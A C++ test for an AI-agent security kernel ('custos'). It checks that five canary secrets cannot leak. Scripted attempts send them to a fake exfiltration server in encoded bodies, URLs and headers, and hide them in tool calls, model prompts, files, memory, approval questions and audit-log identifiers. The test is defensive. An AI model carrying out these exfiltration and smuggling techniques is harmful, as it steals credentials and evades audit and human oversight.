// INV-6 canary: five random secrets live in the policy; a scripted session tries to leak them every
// way we can think of. No secret byte string (raw, base64, hex) may appear in any result, any log
// row, any stored approval or the JSONL export, and every egress attempt must be refused with
// secret_in_egress before anything reaches the wire.

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <cstdlib>
#include <future>
#include <string>
#include <vector>

#include "custos/audit/log_entry.h"
#include "custos/audit/verifier.h"
#include "custos/core/encoding.h"
#include "custos/crypto/random.h"
#include "testing/fake_http_server.h"
#include "testing/kernel_fixture.h"
#include "testing/matchers.h"

namespace custos::kernel {
namespace {

using ::custos::testing::CallJson;
using ::custos::testing::EchoHandler;
using ::custos::testing::FakeHttpServer;
using ::custos::testing::IsAllowed;
using ::custos::testing::IsDenied;
using ::custos::testing::IsOk;
using ::custos::testing::KernelHarness;
using ::custos::testing::OpenAiHandler;
using ::custos::testing::PolicySpec;
using ::custos::testing::SecretEnvName;
using ::custos::testing::TomlString;
using ::custos::testing::WriteFileOrDie;

constexpr int kSecrets = 5;

std::string Hex(std::string_view s, bool upper) {
  static constexpr char kLower[] = "0123456789abcdef";
  static constexpr char kUpper[] = "0123456789ABCDEF";
  const char* digits = upper ? kUpper : kLower;
  std::string out;
  for (unsigned char c : s) {
    out += digits[c >> 4];
    out += digits[c & 15];
  }
  return out;
}

std::string Base64(std::string_view s, bool url) {
  const char* alphabet = url ? "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
                             : "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  size_t i = 0;
  for (; i + 2 < s.size(); i += 3) {
    const uint32_t v = (uint8_t(s[i]) << 16) | (uint8_t(s[i + 1]) << 8) | uint8_t(s[i + 2]);
    out += alphabet[(v >> 18) & 63];
    out += alphabet[(v >> 12) & 63];
    out += alphabet[(v >> 6) & 63];
    out += alphabet[v & 63];
  }
  if (i + 1 == s.size()) {
    const uint32_t v = uint8_t(s[i]) << 16;
    out += alphabet[(v >> 18) & 63];
    out += alphabet[(v >> 12) & 63];
  } else if (i + 2 == s.size()) {
    const uint32_t v = (uint8_t(s[i]) << 16) | (uint8_t(s[i + 1]) << 8);
    out += alphabet[(v >> 18) & 63];
    out += alphabet[(v >> 12) & 63];
    out += alphabet[(v >> 6) & 63];
  }
  return out;  // unpadded: a prefix of the padded form too
}

std::string PercentAll(std::string_view s) {
  static constexpr char kHex[] = "0123456789ABCDEF";
  std::string out;
  for (unsigned char c : s) {
    out += '%';
    out += kHex[c >> 4];
    out += kHex[c & 15];
  }
  return out;
}

class CanaryTest : public ::testing::Test {
 protected:
  void SetUp() override {
    for (int i = 0; i < kSecrets; ++i) {
      const std::string name = "canary" + std::to_string(i);
      // Mixed case and punctuation, so the spellings differ from the raw bytes.
      const std::string value = "Cn" + std::to_string(i) + "/" + crypto::RandomId("Q") + "+x=";
      ::setenv(SecretEnvName(name).c_str(), value.c_str(), 1);
      names_.push_back(name);
      secrets_.push_back(value);
    }
    PolicySpec spec = h_.Spec();
    spec.connect = {api_.host_port(), exfil_.host_port()};
    spec.model_url = model_.url("/v1");
    spec.secret_names = names_;
    spec.secret_destinations = {api_.host_port()};
    spec.approval_timeout_ms = 100;
    WriteFileOrDie(h_.out() / "existing.txt", "a");
    spec.extra = "[[approvals]]\nid = \"gate\"\nsyscall = [\"file.write\"]\ntarget = " +
                 TomlString(h_.out().string() + "/gated/**") + "\ntimeout_ms = 100\n";
    ASSERT_TRUE(h_.Open(spec));
  }
  void TearDown() override {
    for (const std::string& name : names_)
      ::unsetenv(SecretEnvName(name).c_str());
  }

  // Every spelling a careless kernel could leak.
  std::vector<std::string> Forbidden() const {
    std::vector<std::string> f;
    for (const std::string& s : secrets_) {
      for (const std::string& spelling :
           {s, Hex(s, false), Hex(s, true), Base64(s, false), Base64(s, true)}) {
        f.push_back(spelling);
      }
    }
    return f;
  }

  void ExpectClean(const std::string& where, const std::string& text) const {
    for (const std::string& bad : Forbidden()) {
      EXPECT_EQ(text.find(bad), std::string::npos) << where << " leaks \"" << bad << "\":\n"
                                                   << text;
    }
  }

  SyscallResult Run(const Json& j) {
    SyscallResult r = h_.Exec(j);
    results_.push_back(r);
    return r;
  }
  SyscallResult Work(const std::string& kind, const std::string& target, Json args = Json::object(),
                     std::vector<std::string> inputs = {}) {
    return Run(CallJson("worker", kind, target, std::move(args), std::move(inputs)));
  }
  // An attempt to move secret bytes out of the kernel: must be refused by the egress scan.
  void Egress(const std::string& what, const Json& j) {
    SyscallResult r = Run(j);
    EXPECT_THAT(r, IsDenied(Reason::kSecretInEgress, "labels")) << what;
  }

  std::vector<std::string> names_, secrets_;
  FakeHttpServer api_{EchoHandler()};    // the secrets' one allowed destination
  FakeHttpServer exfil_{EchoHandler()};  // an allowed host that must never see a secret
  FakeHttpServer model_{OpenAiHandler("model says hi", 5, 5)};
  KernelHarness h_;
  std::vector<SyscallResult> results_;
};

TEST_F(CanaryTest, NoSecretLeavesTheKernelAnyWay) {
  const std::string& s0 = secrets_[0];
  const std::string& s1 = secrets_[1];
  const std::string& s2 = secrets_[2];
  const std::string& s3 = secrets_[3];
  const std::string& s4 = secrets_[4];

  // --- Direct egress of the bytes, in every spelling the scanner knows. ---
  Egress("raw body", CallJson("worker", "network.send", exfil_.url("/c"),
                              {{"method", "POST"}, {"body", "token=" + s0}}));
  Egress("url query", CallJson("worker", "network.send", exfil_.url("/c?k=" + PercentAll(s1))));
  Egress("url path base64url",
         CallJson("worker", "network.send", exfil_.url("/c/" + Base64(s2, true))));
  Egress("header value",
         CallJson("worker", "network.send", exfil_.url("/c"), {{"headers", {{"X-Key", s3}}}}));
  Egress("header name", CallJson("worker", "network.send", exfil_.url("/c"),
                                 {{"headers", {{"X-" + Hex(s4, false), "1"}}}}));
  Egress("base64 body", CallJson("worker", "network.send", exfil_.url("/c"),
                                 {{"method", "POST"}, {"body", "d=" + Base64(s0, false)}}));
  Egress("hex body", CallJson("worker", "network.send", exfil_.url("/c"),
                              {{"method", "PUT"}, {"body", Hex(s1, true)}}));
  Egress("percent body", CallJson("worker", "network.send", exfil_.url("/c"),
                                  {{"method", "POST"}, {"body", PercentAll(s2)}}));
  Egress("tool argument", CallJson("worker", "tool.invoke", "echo", {{"arguments", {{"q", s3}}}}));
  Egress("model prompt",
         CallJson("worker", "model.call", "test-model", {{"prompt", "remember this: " + s4}}));
  Egress(
      "model message",
      CallJson("worker", "model.call", "test-model",
               {{"messages", Json::array({{{"role", "system"}, {"content", Base64(s0, true)}}})}}));
  Egress("file write", CallJson("worker", "file.write", (h_.out() / "leak.txt").string(),
                                {{"content", "k=" + s1}}));
  Egress("file patch", CallJson("worker", "file.patch", (h_.out() / "existing.txt").string(),
                                {{"edits", Json::array({{{"old", "a"}, {"new", s2}}})}}));

  // --- Secret handles: usable only as a header toward the allowed destination. ---
  std::vector<std::string> handles;
  for (const std::string& name : names_) {
    SyscallResult r = Work("secret.open", name, {{"destination", api_.host_port()}});
    ASSERT_THAT(r, IsAllowed());
    handles.push_back(r.handle->id);
  }
  // The legitimate use works, and the echoed secret does not come back to the agent.
  SyscallResult legit = Work("network.send", api_.url("/v1/me"),
                             {{"headers", {{"Authorization", "Bearer {{" + handles[0] + "}}"}}}});
  ASSERT_THAT(legit, IsAllowed());
  ASSERT_EQ(api_.request_count(), 1u);
  EXPECT_NE(api_.requests()[0].head.find(s0), std::string::npos);
  // Toward another host: refused before resolution finishes.
  EXPECT_THAT(Work("network.send", exfil_.url("/c"),
                   {{"headers", {{"Authorization", "Bearer {{" + handles[1] + "}}"}}}}),
              IsDenied(Reason::kSecretNotAllowed, "resolve"));
  Egress("handle as body",
         CallJson("worker", "network.send", exfil_.url("/c"), {{"method", "POST"}}, {handles[2]}));
  Egress("handle as file content",
         CallJson("worker", "file.write", (h_.out() / "leak2.txt").string(), Json::object(),
                  {handles[3]}));
  Egress("handle as tool input",
         CallJson("worker", "tool.invoke", "echo", Json::object(), {handles[4]}));
  Egress("handle as model input",
         CallJson("worker", "model.call", "test-model", {{"prompt", "x"}}, {handles[0]}));
  EXPECT_THAT(Work("context.read", handles[1]), IsDenied(Reason::kSecretNotAllowed, "resolve"));

  // --- Secret bytes that got inside the kernel must not come back out in a result. ---
  WriteFileOrDie(h_.ws() / "planted.txt", "planted: " + s3 + "\n");
  SyscallResult planted = Work("file.read", (h_.ws() / "planted.txt").string());
  ASSERT_THAT(planted, IsAllowed());
  Work("context.read", planted.handle->id);
  Work("memory.alloc", "note", {{"id", "m1"}, {"value", {{"k", s4}, {s0, "as a key"}}}});
  Work("memory.read", "m1");
  Work("memory.query", "note");
  Work(
      "memory.batch", "",
      {{"ops", Json::array(
                   {{{"op", "put"}, {"id", "m2"}, {"type", "note"}, {"value", Hex(s1, false)}}})}});
  Work("memory.read", "m2");
  Work("agent.send", "reader", {{"message", "psst " + s2}});
  Run(CallJson("reader", "agent.recv", ""));
  SyscallResult resp = Work("tool.response", "search", {{"content", Base64(s3, false)}});
  if (resp.handle)
    Work("context.read", resp.handle->id);

  // --- Secrets smuggled into what gets recorded: targets, ids, names, labels, pointers. ---
  Work("file.read", (h_.ws() / ("missing-" + s4)).string());
  Work("tool.invoke", "tool-" + Hex(s0, false));
  Work("memory.read", Hex(s1, false));
  Work("assert", "labels_at_most", {{"labels", Json::array({"public"})}}, {"h_" + Hex(s2, false)});
  Run(CallJson(Hex(s3, false), "audit.commit", ""));                               // agent name
  Run(CallJson("worker", "audit.commit", "", Json::object(), {}, Hex(s4, true)));  // run name
  Json with_id = CallJson("worker", "audit.commit", "");
  with_id["id"] = Base64(s0, true);
  Run(with_id);
  Json with_tag = CallJson("worker", "memory.alloc", "note", {{"value", 1}});
  with_tag["labels"] = {"untrusted", "x:" + Hex(s1, false)};
  Run(with_tag);
  // Unknown fields named after a secret (the kernel quotes at most 64 bytes of a name).
  Run(CallJson("worker", "memory.read", "x", {{Base64(s2, true), 1}}));
  Json top_field = CallJson("worker", "audit.commit", "");
  top_field[Base64(s3, false)] = true;
  Run(top_field);
  results_.push_back(h_.kernel().ExecuteJson("{\"agent\":\"" + s4 + "\",\"kind\":"));  // malformed

  // --- Approvals: the question a person sees must not carry the secret either. ---
  {
    Json gated = CallJson("worker", "file.write", (h_.out() / "gated" / "x.txt").string(),
                          {{"content", "fine"}});
    gated["intent"] = "please approve, the key is " + s0;
    std::filesystem::create_directories(h_.out() / "gated");
    Run(gated);  // times out unanswered
    Json gated_run = CallJson("worker", "file.write", (h_.out() / "gated" / "y.txt").string(),
                              {{"content", "fine"}}, {}, Hex(s2, false));
    Run(gated_run);
    Run(CallJson("worker", "human.approve", "",
                 {{"question", "ok to use " + Hex(s1, false) + "?"}}));
  }

  // Nothing reached the exfiltration host.
  EXPECT_EQ(exfil_.request_count(), 0u);
  EXPECT_EQ(model_.request_count(), 0u);

  // --- The sweep. ---
  for (const SyscallResult& r : results_)
    ExpectClean("result " + r.id, r.ToJson().dump());
  ASSERT_THAT(h_.kernel().Commit().status(), IsOk());
  std::string jsonl;
  for (const store::LogRow& row : h_.Rows()) {
    ExpectClean("log row " + std::to_string(row.seq), row.canonical);
    jsonl += audit::ToJsonLine(row) + "\n";
  }
  ExpectClean("jsonl export", jsonl);
  Result<std::vector<store::Approval>> approvals = h_.kernel().store().ListApprovals("");
  ASSERT_TRUE(approvals.ok());
  EXPECT_EQ(approvals->size(), 3u);
  for (const store::Approval& a : *approvals) {
    ExpectClean("approval " + a.id,
                a.agent + "\n" + a.run + "\n" + a.question + "\n" + a.target + "\n" + a.note);
  }
  // And the log still verifies.
  EXPECT_THAT(audit::VerifyJsonl(jsonl).status, IsOk());
}

}  // namespace
}  // namespace custos::kernel
